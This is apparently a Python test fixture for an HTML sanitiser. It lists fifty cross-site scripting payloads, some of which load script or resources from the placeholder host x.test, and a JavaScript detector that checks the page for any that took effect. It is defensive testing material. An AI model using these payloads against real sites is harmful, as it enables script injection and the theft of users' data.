"""Fifty ways to make a page run a stranger's script or ask a stranger's host, and what would show that one had worked.

Each is one word (no white space, no comma, no semicolon), so that a refusal quotes it whole. A script that ran would
set `window.xss`; a request that left would go to x.test.
"""

PAYLOADS = (
    # elements
    "<script>xss=1</script>",
    "</script><script>xss=1</script>",
    "<script/src=//x.test/a.js></script>",
    "<img/src/onerror=xss=1>",
    "<img/src=//x.test/a.png>",
    "<svg/onload=xss=1>",
    "<svg><script>xss=1</script></svg>",
    "<svg><animate/onbegin=xss=1>",
    "<svg><a/href=javascript:xss=1><text>a",
    "<svg><use/href=//x.test/a.svg#a>",
    "<body/onload=xss=1>",
    "<iframe/src=javascript:xss=1>",
    "<iframe/srcdoc=<script>xss=1</script>>",
    "<iframe/src=//x.test>",
    "<object/data=javascript:xss=1>",
    "<embed/src=//x.test>",
    "<base/href=//x.test/>",
    "<link/rel=stylesheet/href=//x.test>",
    "<style>@import'//x.test'</style>",
    "<meta/http-equiv=refresh/content=0>",
    "<form/action=//x.test><button>a",
    "<input/autofocus/onfocus=xss=1>",
    "<details/open/ontoggle=xss=1>",
    "<video/src/onerror=xss=1>",
    "<audio/src=//x.test/a.ogg/autoplay>",
    "<marquee/onstart=xss=1>",
    "<math><a/href=javascript:xss=1>a",
    "<template><img/src/onerror=xss=1>",
    "<noscript><img/src/onerror=xss=1>",
    "<!--><img/src/onerror=xss=1>-->",
    # out of what stands around it
    '"><img/src/onerror=xss=1>',
    "'><img/src/onerror=xss=1>",
    '"/onmouseover=xss=1/x="',
    "'/onfocus=xss=1/autofocus/x='",
    "</textarea><img/src/onerror=xss=1>",
    "</title><img/src/onerror=xss=1>",
    "</style><img/src/onerror=xss=1>",
    "]]><img/src/onerror=xss=1>",
    "*/xss=1/*",
    "\\u003cimg/src/onerror=xss=1\\u003e",
    "&lt&#60&#x3c/img/src/onerror=xss=1>",
    # Markdown, formulas, templates, and the markup that Plotly knows
    "![a](//x.test/a.png)",
    "![a](http://x.test/a.png)",
    "[a](javascript:xss=1)",
    "<javascript:xss=1>",
    "$\\href{javascript:xss=1}{a}$",
    "{{constructor.constructor('xss=1')()}}",
    "${xss=1}",
    '<a/href="javascript:xss=1">a</a>',
    "javascript:xss=1",
)

BREACHES = r"""() => {
  const found = window.xss === undefined ? [] : ['a script ran']
  for (const element of document.querySelectorAll('*')) {
    for (const { name, value } of element.attributes) {
      const leads = /^(xlink:)?(href|src|srcset|action|formaction|data|poster|background|content)$/.test(name)
      const strange = leads && (/^\s*javascript:/i.test(value) || /^(https?:)?\/\/x\.test/.test(value.trim()))
      if (strange || /^on|^srcdoc$/.test(name) && value.trim()) found.push(`<${element.localName} ${name}="${value}">`)
    }
    const isCode = ['script', 'style', 'template', 'noscript'].includes(element.localName)
    if (isCode && /xss=1|\/\/x\.test/.test(element.textContent) && element.type !== 'application/json') {
      found.push(`<${element.localName}>${element.textContent.slice(0, 80)}`)
    }
  }
  return found
}"""
"""What in the document comes from a payload and is more than text. Handlers count although the policy forbids them."""
